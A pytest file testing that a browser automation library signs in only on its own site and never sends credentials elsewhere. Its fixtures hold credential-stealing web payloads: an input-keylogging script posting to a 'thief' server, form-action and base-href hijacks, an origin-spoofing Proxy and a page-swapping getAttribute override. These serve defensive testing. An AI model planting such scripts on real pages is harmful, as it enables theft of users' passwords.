"""Signing in: once, only on the site it belongs to, shared by the sessions of a credential."""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from robot_library.drivers.browser import BrowserDriver
from robot_library.drivers.browser.own_site import origin_of
from robot_library.errors import ApplicationException, ScreenNotReached, SetupError, SignInFailed
from robot_library.interfaces import Credential, OneTime
from robot_library.model.bot import App
from robot_library.model.screen import Locator, Screen, SignInStep
from tests.drivers.conftest import Open, screens
from tests.drivers.ward import PASSWORD, Ward, served

pytestmark = [pytest.mark.asyncio(loop_scope="session"), pytest.mark.browser]


async def test_sessions_of_one_credential_sign_in_once(ward: Ward, enter: Open) -> None:
    first = await enter(screens())
    await first.open("home", {})
    await first.close()
    await (await enter(screens())).open("home", {})
    await (await enter(screens())).open("home", {}, fresh=True)
    assert ward.sign_ins == ["bot"]


async def test_a_refused_credential_is_tried_once(ward: Ward, enter: Open) -> None:
    for _ in range(3):
        with pytest.raises(SignInFailed, match="refused") as caught:
            await enter(screens(), password="wrong-secret")
        assert "wrong-secret" not in str(caught.value)
    assert ward.sign_ins == ["bot"]
    await enter(screens())
    assert ward.sign_ins == ["bot", "bot"]


async def test_nothing_is_typed_into_a_form_of_another_site(ward: Ward, enter: Open) -> None:
    ward.elsewhere = "http://127.0.0.1:9/steal"
    with pytest.raises(SignInFailed, match="does not belong to the site"):
        await enter(screens())
    assert ward.sign_ins == []


async def test_a_one_time_code_is_not_typed_into_a_form_of_another_site(ward: Ward, driver: BrowserDriver) -> None:
    made: list[int] = []

    def code(step: int) -> str:
        made.append(step)
        return "123456"

    plain = screens()
    assert plain.sign_in is not None
    step = plain.sign_in.steps[0].model_copy(update={"fill": {"word": "code"}})
    map_ = plain.model_copy(update={"sign_in": plain.sign_in.model_copy(update={"steps": (step,)})})
    ward.elsewhere = "http://127.0.0.1:9/steal"
    with pytest.raises(SignInFailed, match="does not belong to the site"):
        await driver.session("ehr", App(map="ward", url=ward.url), map_, Credential("bot", PASSWORD, OneTime(30, code)))
    assert (ward.sign_ins, made) == ([], [])


FORM = """<h1>Ward sign-in</h1><form method=post action="{action}">{inside}<label>User <input name=user></label>
<label>Word <input name=word type=password></label><button {button}>Enter</button></form>{below}"""
TELLS = "<script>addEventListener('input', e => fetch('/tell', {method: 'POST', body: e.target.value}), true)</script>"


def form(action: str = "/enter", inside: str = "", button: str = "", below: str = "") -> str:
    return FORM.format(action=action, inside=inside, button=button, below=below)


@pytest.fixture
def thief() -> Iterator[Ward]:
    with served(Ward(sign_in_page=form("/tell", below=TELLS))) as running:
        yield running


def on(event: str, name: str, does: str) -> str:
    return f"<script>document.querySelector('[name={name}]').addEventListener('{event}', e => {{{does}}})</script>"


LIES = """<script>const real = window;
Object.defineProperty(document, 'defaultView', {get: () => new Proxy(real, {get: (it, key) => {
  if (key === 'location') return {origin: 'OURS'};
  const value = Reflect.get(it, key); return typeof value === 'function' ? value.bind(it) : value}})})</script>"""
SWAPS = """<script>let looks = 0; const real = Element.prototype.getAttribute;
Element.prototype.getAttribute = function (name) {
  if (name === 'action' && this.tagName === 'FORM' && ++looks >= LOOKS) {
    document.querySelectorAll('input').forEach(one => one.disabled = true); location.href = 'THEIRS/sign-in'}
  return real.call(this, name)}</script>"""
TRICKS = {
    "formaction": form(button="formaction=THEIRS/tell"),
    "formaction of another button": form(inside="<button hidden formaction=THEIRS/tell>x</button>"),
    "base": "<base href=THEIRS>" + form("tell"),
    "a name that hides the action": form("THEIRS/tell", inside="<input type=hidden name=action value=login>"),
    "the action changes when the word is reached": form(
        below=on("focus", "word", "e.target.form.action='THEIRS/tell'")
    ),
    "the action changes when the word is typed": form(below=on("input", "word", "e.target.form.action='THEIRS/tell'")),
    "another page once the name is typed": form(below=on("input", "user", "location.href='THEIRS/sign-in'")),
    **{f"another page at look {n}": form(below=SWAPS.replace("LOOKS", str(n))) for n in (1, 2, 4)},
}


@pytest.mark.parametrize("trick", TRICKS)
async def test_no_credential_leaves_for_another_site(ward: Ward, thief: Ward, enter: Open, trick: str) -> None:
    ward.sign_in_page = TRICKS[trick].replace("THEIRS", thief.url)
    with pytest.raises(ApplicationException):
        await enter(screens())
    assert [one for one in thief.told if PASSWORD in one] == []
    assert ward.sign_ins == []


async def test_a_frame_of_another_site_is_not_typed_into_whatever_it_says(
    ward: Ward, thief: Ward, driver: BrowserDriver
) -> None:
    plain = screens()
    targets = {
        name: target.model_copy(update={"frame": Locator(css="iframe")})
        for name, target in plain.screens["sign_in"].targets.items()
    }
    screen = plain.screens["sign_in"].model_copy(update={"targets": targets, "seen_by": (Locator(css="iframe"),)})
    map_ = plain.model_copy(update={"screens": {**plain.screens, "sign_in": screen}})
    thief.sign_in_page = LIES.replace("OURS", ward.url) + form("", below=TELLS)
    ward.sign_in_page = f"<iframe src={thief.url}/sign-in></iframe>"
    with pytest.raises(SignInFailed, match="does not belong to the site"):
        await driver.session("ehr", App(map="ward", url=ward.url), map_, Credential("bot", PASSWORD))
    assert thief.told == []


async def test_no_step_without_a_credential_is_pressed_on_another_site(ward: Ward, thief: Ward, enter: Open) -> None:
    """A page on the way to the form: "go on" of ours leads elsewhere, where the same thing stands."""
    ward.sign_in_page = f"<h1>Welcome</h1><script>location.href = '{thief.url}/sign-in'</script>"
    thief.sign_in_page = "<h1>Welcome</h1><button onclick=\"fetch('/tell', {method: 'POST', body: 'x'})\">On</button>"
    plain = screens("1500 ms")
    assert plain.sign_in is not None
    on = {"find": [{"role": "button", "name": "On"}], "use": "navigate"}
    welcome = Screen.model_validate({"seen_by": [{"role": "heading", "name": "Welcome"}], "targets": {"on": on}})
    steps = (SignInStep(on="welcome", click="on"), *plain.sign_in.steps)
    sign_in = plain.sign_in.model_copy(update={"steps": steps})
    map_ = plain.model_copy(update={"screens": {**plain.screens, "welcome": welcome}, "sign_in": sign_in})
    with pytest.raises((ScreenNotReached, SignInFailed), match=r"led to http://127\.0\.0\.1") as caught:
        await enter(map_)
    assert "also_at" in caught.value.cure or "'url'" in caught.value.cure
    assert thief.told == []


async def test_a_form_with_an_input_called_action_can_be_signed_in_to(ward: Ward, enter: Open) -> None:
    ward.sign_in_page = form(inside="<input type=hidden name=action value=login>")
    await (await enter(screens())).open("home", {})
    assert ward.sign_ins == ["bot"]


async def test_an_origin_is_written_as_browsers_write_it() -> None:
    assert origin_of("https://EHR.example:443/a") == origin_of("https://ehr.example") == "https://ehr.example"
    assert origin_of("http://ehr.example:80") == "http://ehr.example"
    others = ["http://ehr.example", "https://ehr.example:80", "https://ehr.example:4430", "https://a@ehr.example",
              "https://ehr.example.evil", "https://ehr\u0435.example", "https://ehr.example@evil"]  # fmt: skip
    assert not [one for one in others if origin_of(one) == "https://ehr.example"]


async def test_http_basic_is_sent_to_its_origin_and_refused_once(ward: Ward, driver: BrowserDriver) -> None:
    vault = {
        "seen_by": [{"role": "heading", "name": "Vault"}],
        "reach": [{"goto": "/basic"}],
        "targets": {"level": {"find": [{"label": "Level"}]}},
    }
    basic = screens(sign_in=False, vault=vault).model_dump(by_alias=True, exclude_unset=True)
    from robot_library.model.screen import ScreenMap

    screen_map = ScreenMap.model_validate({**basic, "sign_in": {"http_basic": True}})
    app = App(map="ward", url=ward.url)
    session = await driver.session("pacs", app, screen_map, Credential("bot", PASSWORD))
    assert await (await session.open("vault", {})).read(["level"]) == {"level": "7"}
    await session.close()
    bad = await driver.session("pacs", app, screen_map, Credential("bot", "nope"))
    with pytest.raises(SignInFailed, match="401"):
        await bad.open("vault", {})
    await bad.close()


async def test_a_missing_credential_or_address_is_a_matter_of_set_up(ward: Ward, driver: BrowserDriver) -> None:
    with pytest.raises(SetupError, match="names no credential"):
        await driver.session("ehr", App(map="ward", url=ward.url), screens(), None)
    with pytest.raises(SetupError, match="no http address"):
        await driver.session("ehr", App(map="ward", url="${WETREAD_EHR_URL}"), screens(), None)


async def test_a_browser_that_died_is_started_anew(ward: Ward) -> None:
    driver = BrowserDriver()
    try:
        app, who = App(map="ward", url=ward.url), Credential("bot", PASSWORD)
        await (await driver.session("ehr", app, screens(), who)).open("home", {})
        assert driver._browser is not None
        await driver._browser.close()
        await (await driver.session("ehr", app, screens(), who)).open("home", {})
        assert ward.sign_ins == ["bot", "bot"]
    finally:
        await driver.close()
